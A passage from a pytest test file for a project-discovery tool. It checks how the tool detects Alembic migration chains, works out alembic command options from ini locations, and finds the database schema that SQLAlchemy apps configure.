    lists = [e.path for e in plan.edits if b"pydantic-settings" in (e.after or b"")]
    assert [path for path in lists if path != "server/main.py"] == grown


CHANGES = 'def upgrade():\n    op.add_column("tea", sa.Column("price"))\n'
MAKES = 'def upgrade():\n    op.create_table(\n        "tea",\n    )\n'


@pytest.mark.parametrize(
    ("first", "presumed"),
    [
        ("def upgrade():\n    pass\n", "tea"),
        (MAKES, None),
        (MAKES.replace("tea", "cup"), "tea"),
        ('def upgrade():\n    op.execute("CREATE TABLE IF NOT EXISTS tea ()")\n', None),
        ("def upgrade():\n    Base.metadata.create_all(op.get_bind())\n", None),
        ("def upgrade():\n    op.create_table(NAME)\n", None),
        ('def upgrade():\n    op.rename_table("old", "tea")\n', None),
    ],
)
def test_a_chain_that_does_not_start_from_empty(
    tmp_path: Path, first: str, presumed: str | None
) -> None:
    """It cannot be migrated on a new database, so the auth tables are not put there."""
    head = 'revision = "{}"\ndown_revision = {}\n\n\n'
    db = "from sqlalchemy import create_engine\n\nengine = create_engine('postgresql://x')"
    files = {
        "main.py": f"from db import engine\n{APP}",
        "db.py": f"{db}\n",
        "requirements.txt": "fastapi\nsqlalchemy\npsycopg\n",
        "alembic.ini": "[alembic]\nscript_location = migrations\n",
        "migrations/env.py": "target_metadata = None\n",
        "migrations/versions/a.py": head.format("a", None) + first,
        "migrations/versions/b.py": head.format("b", "'a'") + CHANGES,
    }
    facts = discover(build(tmp_path, files))
    assert facts.presumed_table.value == presumed
    found = suggestions(facts, Repository(tmp_path))
    assert found["auth_migration_system"] == ("none" if presumed else "alembic")
    said = run_discover(tmp_path).stdout
    assert ("changes the table tea, which no revision makes" in said) == bool(presumed)


REVISION = 'revision = "a1"\ndown_revision = None\n'


@pytest.mark.parametrize(
    ("ini", "section", "location", "versions", "options", "folder"),
    [
        ("api/alembic.ini", "alembic", "migrations", "api/migrations", "", "api"),
        (
            "api/conf/db.ini",
            "alembic",
            "%(here)s/../steps",
            "api/steps",
            "-c conf/db.ini",
            "api",
        ),
        ("api/conf/alembic.ini", "alembic", "steps", "api/conf/steps", "", "api/conf"),
        ("alembic.ini", "alembic", "api/steps", "api/steps", "", "."),
        (
            "api/alembic.ini",
            "core",
            "steps/core",
            "api/steps/core",
            "--name core",
            "api",
        ),
        (
            "api/deploy/alembic.ini",
            "core",
            "steps",
            "api/steps",
            "-c deploy/alembic.ini --name core",
            "api",
        ),
        (
            "api/alembic.ini",
            "alembic:main",
            "steps",
            "api/steps",
            "--name alembic:main",
            "api",
        ),
    ],
)
def test_how_alembic_is_called(  # noqa: PLR0913, PLR0917 - one case a row
    tmp_path: Path,
    ini: str,
    section: str,
    location: str,
    versions: str,
    options: str,
    folder: str,
) -> None:
    """What is printed, and what ``dev:all`` runs, finds the revisions for real."""
    files = {
        "api/main.py": APP,
        "api/requirements.txt": "fastapi\nsqlalchemy\n",
        ini: f"[{section}]\nscript_location = {location}\n",
        f"{versions}/env.py": "",
        f"{versions}/versions/a1.py": REVISION,
    }
    facts = discover(build(tmp_path, files))
    answers = parse_answers({**suggestions(facts, Repository(tmp_path))})
    assert (answers.alembic, answers.alembic_dir) == (
        f"alembic {options}".strip(),
        folder,
    )
    heads = subprocess.run(
        [sys.executable, "-m", *answers.alembic.split(), "heads"],
        cwd=tmp_path / answers.alembic_dir,
        check=False,
        capture_output=True,
        text=True,
    )
    assert heads.stdout == "a1 (head)\n", heads.stderr


SCHEMAS = {
    "of the metadata": (
        "app/db.py",
        "from sqlalchemy import MetaData\n\nmetadata = MetaData(schema='shop')\n",
        "shop",
    ),
    "of the metadata, by a constant": (
        "app/db.py",
        "class Base(DeclarativeBase):\n    metadata = MetaData(schema=cfg.SCHEMA)\n",
        "cfg.SCHEMA",
    ),
    "set on SQLModel's": (
        "app/models.py",
        "from sqlmodel import SQLModel\n\nSQLModel.metadata.schema = 'shop'\n",
        "shop",
    ),
    "by env.py": (
        "migrations/env.py",
        "connection.execute(text('SET search_path TO \"shop\", public'))\n",
        "shop",
    ),
    "by env.py, of a tenant": (
        "migrations/env.py",
        "connection.execute(text(f'set search_path to {tenant}'))\n",
        "{tenant}",
    ),
    "of asyncpg's connections": (
        "app/db.py",
        "args = {'server_settings': {'search_path': 'shop,public'}}\n",
        "shop",
    ),
    "of libpq's connections": (
        "app/db.py",
        "engine = create_engine(URL, connect_args={'options': '-csearch_path=shop'})\n",
        "shop",
    ),
    "at each connection": (
        "app/db.py",
        "cursor.execute(\"SET SESSION search_path='shop'\")\n",
        "shop",
    ),
    "by a translation": (
        "app/db.py",
        "engine = engine.execution_options(schema_translate_map={None: 'shop'})\n",
        "of a schema_translate_map",
    ),
    "a path with a name to come": (
        "app/db.py",
        "connection.execute(text('set search_path to \"%s\"' % schema))\n",
        "%s",
    ),
    "the usual one": ("app/db.py", "metadata = MetaData(schema='public')\n", None),
    "the usual path": ("app/db.py", "sql = 'set search_path = public'\n", None),
    "one of the version table": (
        "migrations/env.py",
        "context.configure(version_table_schema='shop', include_schemas=True)\n",
        None,
    ),
    "one of a test": ("tests/test_db.py", "metadata = MetaData(schema='t')\n", None),
}


@pytest.mark.parametrize(
    ("path", "text", "schema"), SCHEMAS.values(), ids=SCHEMAS.keys()
)
def test_the_schema_of_the_tables(
    tmp_path: Path, path: str, text: str, schema: str | None
) -> None:
    """Found wherever it is said, as a name or as what gives the name."""
    found = discover(build(tmp_path, {**IN_A_SCHEMA, path: text})).table_schema
    assert found.value == schema
    assert schema is None or found.evidence[0].path == path
    assert schema is None or ("%" in found.evidence[0].why) is False


IN_A_SCHEMA = {
    "requirements.txt": "fastapi\nsqlalchemy\npsycopg\nalembic\n",
    "app/__init__.py": "",
    "app/main.py": (
        "from fastapi import FastAPI\n\nfrom app import db\n\napp = FastAPI()\n"
    ),
    "app/db.py": (
        "from sqlalchemy import create_engine\n\n"
        "engine = create_engine('postgresql+psycopg://app@localhost/app')\n"
    ),
    "alembic.ini": "[alembic]\nscript_location = migrations\n",
    "migrations/env.py": "from app import db\n\ntarget_metadata = None\n",
    "migrations/versions/a1.py": 'revision = "a1"\ndown_revision = None\n',
}
